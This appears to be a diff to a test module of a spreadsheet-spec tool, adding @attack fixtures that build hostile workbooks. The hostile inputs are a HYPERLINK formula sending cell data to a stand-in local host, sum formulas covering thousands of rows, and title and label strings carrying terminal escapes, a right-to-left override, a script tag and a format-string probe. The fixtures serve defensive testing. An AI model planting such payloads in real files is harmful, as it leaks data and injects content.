@@ -3,21 +3,22 @@
 from __future__ import annotations
 
 import json
+import re
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 from xml.sax.saxutils import escape
 
 import msgspec
-from made_files import around, attack, layout_of, on_template
+from made_files import around, attack, cell, layout_of, on_template
 
 from smsheets.spec.load import load_spec
 
 Json = dict[str, Any]
 
 
-def _carrying(path: Path, text: str) -> None:
-    """A calendar that says it was made from this spec."""
+def _carrying(path: Path, text: str, kind: str = "") -> None:
+    """A calendar that says it was made from this spec, which has a kind of its own or takes the template's place."""
     part = f"xl/worksheets/sheet{len(layout_of('calendar').sheets) + 2}.xml"
     pieces = [text[start : start + 30_000] for start in range(0, len(text), 30_000)]
     rows = (
@@ -25,7 +26,11 @@ def _carrying(path: Path, text: str) -> None:
         f'<c r="B{n}" t="inlineStr"><is><t>{escape(piece)}</t></is></c></row>'
         for n, piece in enumerate(pieces, 2_000)
     )
-    on_template(path, {part: around(part, "</sheetData>", rows)})
+    whole = "".join(around(part, "</sheetData>", rows))
+    if kind:
+        whole, count = re.subn(r'<c r="B2".*?</c>', cell("B2", kind), whole, count=1)
+        assert count
+    on_template(path, {part: whole})
 
 
 def _own(change: Callable[[Json], None]) -> str:
@@ -71,7 +76,10 @@ def spec_of_more_rows_than_may_be(path: Path) -> None:
 
 def _with_formula(formula: str, **field: Any) -> Callable[[Json], None]:
     def change(spec: Json) -> None:
-        _add_sheets(spec, _table(0, 3, 1, formula=formula, **field))
+        table = _table(0, 3, 1)  # one column has to be filled in by people
+        table["columns"] += _table(0, 3, 1, formula=formula, **field)["columns"]
+        table["columns"][1] |= {"id": "f", "label": "Formula"}
+        _add_sheets(spec, table)
 
     return change
 
@@ -117,15 +125,29 @@ def spec_with_endless_text(path: Path) -> None:
 @attack()
 def spec_with_huge_areas(path: Path) -> None:
     """Each cell sums a whole table: ten thousand times ten thousand."""
+    _carrying(path, _own(_with_sums(10_000)))
 
+
+@attack()
+def spec_with_areas_of_a_few_thousand_rows(path: Path) -> None:
+    """No more cells than a template may have, but each of them looks at thousands."""
+    _carrying(path, _own(_with_sums(3_000)))
+
+
+@attack()
+def spec_with_a_link_to_somewhere(path: Path) -> None:
+    _carrying(path, _own(_with_formula('HYPERLINK("http://127.0.0.1:9/x?"&{c0})')))
+
+
+def _with_sums(rows: int) -> Callable[[Json], None]:
     def change(spec: Json) -> None:
-        table = _table(0, 10_000, 1)
+        table = _table(0, rows, 1)
         table["columns"] += [
             {"id": f"f{n}", "label": f"F{n}", "formula": "SUMPRODUCT({t0.c0}*{t0.c0})"} for n in range(8)
         ]
         _add_sheets(spec, table)
 
-    _carrying(path, _own(change))
+    return change
 
 
 @attack()
@@ -156,6 +178,6 @@ def spec_with_escapes_in_its_texts(path: Path) -> None:
     def change(spec: Json) -> None:
         spec["kind"] = "evil"
         spec["title"] = spec["purpose"] = "\x1b[2J\x1b]0;owned\x07\u202e[red]<script>"
-        spec["sheets"][1]["blocks"][0]["columns"][1]["label"] = "{0.__class__}\x1b[31m"
+        spec["sheets"][1]["blocks"][0]["columns"][1]["hint"] = "{0.__class__}\x1b[31m"  # a label has to be there
 
-    _carrying(path, _own(change))
+    _carrying(path, _own(change), "evil")
